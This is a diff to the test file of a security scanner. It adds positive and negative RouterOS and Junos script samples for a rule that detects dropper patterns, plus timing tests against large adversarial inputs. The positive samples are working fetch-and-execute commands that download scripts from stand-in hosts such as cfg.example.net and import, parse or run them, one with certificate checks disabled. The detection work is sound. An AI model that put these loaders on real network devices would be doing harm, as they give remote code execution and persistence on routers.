@@ -637,3 +637,58 @@ version = r.stdout().strip()
 `,
   },
 ]);
+
+describeRuleCases('dropper (network device scripts that run fetched scripts)', [
+  {
+    id: 'SG-DROPPER-018',
+    file: 'routeros/sync.rsc',
+    positive:
+      '/system script add name=sync source={\n    :do {\n        /tool fetch url=($base . "/fix.rsc") mode=https \\\n            check-certificate=no dst-path="fix.rsc"\n        :delay 2s\n        /import file-name="fix.rsc" verbose=no\n    } on-error={}\n}\n',
+    negative:
+      '/system script add name=sync source={\n    :local d ([/tool fetch url=$feed output=user as-value]->"data")\n    :local line [:pick $d 0 [:find $d "\\n"]]\n    /ip firewall address-list add list=bl address=$line\n}\n/import file-name=local-defaults.rsc\n',
+  },
+  {
+    id: 'SG-DROPPER-018',
+    file: 'routeros/update.rsc',
+    positive:
+      '/system scheduler add name=u interval=1h on-event="/tool fetch url=\\"https://cfg.example.net/u/patch.rsc\\"; :delay 3s; /import patch.rsc"\n',
+    negative:
+      '/system scheduler add name=u interval=1h on-event="/tool fetch url=\\"https://cfg.example.net/u/list.txt\\"; :delay 3s; /import defaults.rsc"\n',
+  },
+  {
+    id: 'SG-DROPPER-018',
+    file: 'routeros/mk.rsc',
+    positive:
+      ':local d ([/tool fetch url=$u output=user as-value]->"data")\n/system script add name=fix source=$d\n/system script run fix\n',
+    negative:
+      ':local d ([/tool fetch url=$u output=user as-value]->"data")\n/system script add name=fix source=$local\n',
+  },
+  {
+    id: 'SG-DROPPER-018',
+    file: 'routeros/run.rsc',
+    positive:
+      ':local body ([/tool fetch url=$u output=user as-value]->"data")\n:local f [:parse $body]\n$f\n',
+    negative: ':local body ([/tool fetch url=$u output=user as-value]->"data")\n:log info [:len $body]\n',
+  },
+  {
+    id: 'SG-DROPPER-018',
+    positive:
+      '# Router\n\n```\nset event-options policy refresh then execute-commands commands "op url https://ops.example.net/check.slax"\n```\n',
+    negative: '# Router\n\n```\nset system scripts op file check.slax\n```\n',
+  },
+]);
+
+describe('adversarial RouterOS scripts', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['fetches', '/tool fetch url=x '.repeat(MiB / 18) + '\n/import a.rsc'],
+    ['continued fetch lines', '/tool fetch \\\n'.repeat(MiB / 14) + 'dst-path=a.rsc\n/import a.rsc'],
+    ['imports', '/tool fetch dst-path=a.rsc\n' + '/import "b.rsc" '.repeat(MiB / 16)],
+    ['parses', ':local d [/tool fetch url=x]\n' + ':parse $e '.repeat(MiB / 10)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'routeros/x.rsc');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
